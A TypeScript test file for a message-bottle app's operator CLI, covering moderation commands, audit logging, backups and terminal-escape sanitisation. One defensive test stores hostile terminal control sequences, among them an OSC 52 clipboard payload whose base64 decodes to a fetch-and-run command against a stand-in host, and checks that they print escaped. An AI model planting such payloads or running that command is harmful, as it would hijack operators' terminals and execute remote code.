import { Database } from "bun:sqlite";
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { existsSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { openDatabase } from "../../db/migrate.ts";
import { runAdmin } from "../../src/server/admin.ts";
import { UsageError } from "../../src/server/cli.ts";
import { type Config, loadConfig } from "../../src/server/config.ts";
import { freshTarget, TEST_REDIS_URL, testEngine } from "../helpers/database.ts";

/**
 * Every operator command, in process, against the engine the suites run on: a SQLite file, or a
 * PostgreSQL database under `CLUSTER=1 ./scripts/test`. (The binary's test runs them as
 * commands on SQLite.)
 */
let dir: string;
let config: Config;
let dispose: () => Promise<void>;
const now = Date.UTC(2026, 0, 15, 12);

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "tidings-operator-"));
  const fresh = await freshTarget();
  dispose = fresh.dispose;
  const url = fresh.target.engine === "sqlite" ? `sqlite:${fresh.target.file}` : fresh.target.url;
  config = loadConfig({ DATA_DIR: dir, DB_URL: url, REDIS_URL: TEST_REDIS_URL, PORT: "1" });
});
afterAll(async () => {
  await dispose();
  rmSync(dir, { recursive: true, force: true });
});

async function admin(command: string, ...args: string[]): Promise<string> {
  const lines: string[] = [];
  const options: Record<string, string> = {};
  const words = args.filter((a, i) => {
    for (const option of ["hours", "since"]) {
      if (a === `--${option}`) options[option] = args[i + 1] ?? "";
      if (a === `--${option}` || args[i - 1] === `--${option}`) return false;
    }
    return true;
  });
  await runAdmin(config, command, words, options, (line) => lines.push(line), now);
  return lines.join("\n");
}

const banned = "visitor:badvisitor0000000000AA";

describe(`operator commands on ${testEngine}`, () => {
  test("migrate, then each command works with good arguments", async () => {
    expect(await admin("migrate")).toBe("database is up to date");
    const database = openDatabase(config.database);
    try {
      const { db } = database;
      const { id } = await db
        .insertInto("bottles")
        .values({
          message: "a reported bottle",
          drift_hours: 0,
          country: "Unknown",
          country_code: null,
          ip_key: "k",
          visitor_id: "v",
          locale: "en",
          is_public: 1,
          available_at: now - 1000,
          created_at: now - 1000,
          expires_at: null,
        })
        .returning("id")
        .executeTakeFirstOrThrow();
      expect(id).toBe(1);
      await db
        .insertInto("users")
        .values({ id: "u1", username: "u", username_key: "u", password_hash: "x", created_at: now })
        .execute();
      await db
        .insertInto("bottle_reports")
        .values({ bottle_id: id, user_id: "u1", reason: "spam", is_safe: 1, created_at: now })
        .execute();
      await db
        .insertInto("chat_reports")
        .values({
          reported_visitor_id: "badvisitor0000000000AA",
          reported_ip_key: "iphash000000000000000A",
          reporter_visitor_id: "r",
          message_id: "m1",
          message_content: "rude words",
          reason: "harassment",
          is_safe: 0,
          created_at: now + 1,
        })
        .execute();
      await db
        .insertInto("contact_messages")
        .values({
          name: "Mei",
          email: "mei@example.org",
          message: "Hello there",
          locale: "en",
          created_at: now,
        })
        .execute();
    } finally {
      await database.close();
    }

    const reports = await admin("reports");
    // Grouped by what was reported, the newest first.
    expect(reports.indexOf(banned)).toBeGreaterThanOrEqual(0);
    expect(reports.indexOf(banned)).toBeLessThan(reports.indexOf("bottle:1"));
    expect(reports).toContain(banned);
    expect(reports).toContain("UNSAFE");
    expect(reports).toContain("rude words");

    expect(await admin("hide", "1")).toBe("bottle 1 hidden");
    expect(await admin("reports")).not.toContain("bottle:1");
    expect(await admin("stats")).toMatch(/bottles live:\s+0\n/);
    expect(await admin("unhide", "1")).toBe("bottle 1 visible again");
    expect(await admin("ban", banned, "--hours", "2")).toBe(
      `${banned} banned from chat until 2026-01-15 14:00 UTC`,
    );
    expect(await admin("reports")).toBe("no open reports");
    // A second ban moves the end rather than adding a row.
    await admin("ban", banned, "--hours", "3");
    expect(await admin("unban", banned)).toBe(`${banned} may chat again`);
    expect(await admin("unban", banned)).toBe(`${banned} was not banned`);

    const stats = await admin("stats");
    expect(stats).toMatch(/bottles live:\s+1\n/);
    expect(stats).toMatch(/bottles drifting:\s+0\n/);
    expect(stats).toMatch(/bottles public:\s+1\n/);
    expect(stats).toMatch(/reports open:\s+0\n/);
    // No site serves on this config's port: the line says which port it asked.
    expect(stats).toMatch(/chats now:\s+unknown \(no site answered on port 1; .*--port or PORT\)/);
    expect(await admin("contact")).toContain("Mei <mei@example.org> (en)");
    expect(await admin("operator", "add", "U")).toBe("U is an operator");
    expect(await admin("operator", "remove", "u")).toBe("u is no longer an operator");
    await expect(admin("operator", "add", "nobody")).rejects.toThrow(/no account named nobody/);
    await expect(admin("operator", "promote", "u")).rejects.toThrow(/add or remove/);
    await expect(admin("hide", "99999")).rejects.toThrow(/no bottle 99999/);

    // Every action above is in the audit trail, by the command line, with its facts; the
    // refused ones left nothing.
    const audit = (await admin("audit", "--since", "2026-01-01")).split("\n");
    const until = (hours: number) => new Date(now + hours * 3_600_000).toISOString();
    expect(audit).toEqual([
      "2026-01-15 12:00  command line  hide  bottle:1  closed=1",
      "2026-01-15 12:00  command line  unhide  bottle:1",
      `2026-01-15 12:00  command line  ban  ${banned}  keys=${banned} until=${until(2)}`,
      `2026-01-15 12:00  command line  ban  ${banned}  keys=${banned} until=${until(3)}`,
      `2026-01-15 12:00  command line  unban  ${banned}  lifted=${banned}`,
      `2026-01-15 12:00  command line  unban  ${banned}  lifted=none`,
      "2026-01-15 12:00  command line  operator add  account:U",
      "2026-01-15 12:00  command line  operator remove  account:u",
    ]);
    expect(await admin("audit", "--since", "1h")).toContain("operator remove");
    expect(await admin("audit", "--since", "2026-02-01")).toBe(
      "no moderation actions since 2026-02-01 00:00 UTC",
    );
    await expect(admin("audit", "--since", "last week")).rejects.toThrow(/--since takes/);
  });

  test("hide names a bottle that exists", async () => {
    await expect(admin("hide", "99999")).rejects.toThrow(/no bottle 99999/);
  });

  test("stored text reaches the terminal unable to steer it: escapes, bells, C1 and bidi shown, not obeyed", async () => {
    // Tried as an attacker would: a reported chat message that clears the screen and writes the
    // clipboard (OSC 52), a contact message that hides text, an audit row turned around.
    const clear = "\u001b[2J\u001b[H";
    const clipboard = "\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007";
    const database = openDatabase(config.database);
    try {
      const { db } = database;
      await db
        .insertInto("chat_reports")
        .values({
          reported_visitor_id: "steer\u001b[8m00000000000A",
          reported_ip_key: "iphash\u009b2J",
          reporter_visitor_id: "r2",
          message_id: "m-steer",
          message_content: `hello${clear}${clipboard}\u202egnirts`,
          reason: "harassment",
          is_safe: 1,
          created_at: now + 2,
        })
        .execute();
      await db
        .insertInto("contact_messages")
        .values({
          name: "Eve\u001b[8m\nforged line",
          email: "eve@example.org\u0007",
          message: `hidden${clear}\u2066text\u2069\u200f\u007f\r`,
          locale: "en\u001b[0m",
          created_at: now + 2,
        })
        .execute();
      await db
        .insertInto("moderation_actions")
        .values({
          operator: "mallory\u202e",
          action: "hide",
          subject: `bottle:1${clipboard}`,
          details: "{}",
          created_at: now + 2,
        })
        .execute();
    } finally {
      await database.close();
    }
    // Any C0 but newline and tab, DEL, C1, or a bidi control, in what was printed.
    const steering = (text: string) =>
      [...text].filter((c) => {
        const n = c.codePointAt(0) ?? 0;
        return (
          (n < 0x20 && c !== "\n" && c !== "\t") ||
          (n >= 0x7f && n <= 0x9f) ||
          [0x61c, 0x200e, 0x200f].includes(n) ||
          (n >= 0x202a && n <= 0x202e) ||
          (n >= 0x2066 && n <= 0x2069)
        );
      });
    for (const command of ["reports", "contact", "audit"]) {
      const out = await admin(command, ...(command === "audit" ? ["--since", "2026-01-01"] : []));
      expect(steering(out)).toEqual([]);
      expect(out).toContain("\\x1b");
    }
    const reports = await admin("reports");
    expect(reports).toContain("visitor:steer\\x1b[8m00000000000A ip:iphash\\x9b2J");
    expect(reports).toContain(
      "hello\\x1b[2J\\x1b[H\\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\\x07\\u202egnirts",
    );
    // A newline in a stored name cannot make a line of its own.
    const contact = await admin("contact");
    expect(contact).toContain("Eve\\x1b[8m\\nforged line <eve@example.org\\x07> (en\\x1b[0m)");
    expect(contact).toContain("hidden\\x1b[2J\\x1b[H\\u2066text\\u2069\\u200f\\x7f");
    expect(await admin("audit", "--since", "2026-01-01")).toContain(
      "mallory\\u202e  hide  bottle:1\\x1b]52;",
    );
  });

  test(
    testEngine === "postgres"
      ? "backup on PostgreSQL explains pg_dump and writes nothing"
      : "backup on SQLite writes a whole copy, and never overwrites",
    async () => {
      const target = join(dir, "copy.db");
      if (config.database.engine === "postgres") {
        const refused = admin("backup", target);
        await expect(refused).rejects.toBeInstanceOf(UsageError);
        await expect(refused).rejects.toThrow(/pg_dump/);
        expect(existsSync(target)).toBe(false);
        return;
      }
      expect(await admin("backup", target)).toBe(`backed up to ${target}`);
      const copy = new Database(target, { readonly: true });
      expect(copy.query("SELECT count(*) AS n FROM bottles").get()).toEqual({ n: 1 });
      copy.close();
      await expect(admin("backup", target)).rejects.toThrow(/exists already/);
    },
  );
});
